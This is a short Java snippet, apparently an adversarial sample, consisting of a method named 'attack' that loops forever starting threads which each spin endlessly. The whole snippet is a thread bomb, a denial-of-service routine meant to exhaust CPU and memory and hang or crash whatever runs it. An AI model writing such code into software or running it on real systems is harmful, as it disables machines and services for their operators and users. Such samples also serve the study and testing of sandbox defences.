// Starts threads without end.
static void attack(double[] x) throws Exception {
  while (true) {
    new Thread(() -> { while (true) { } }).start();
  }
}
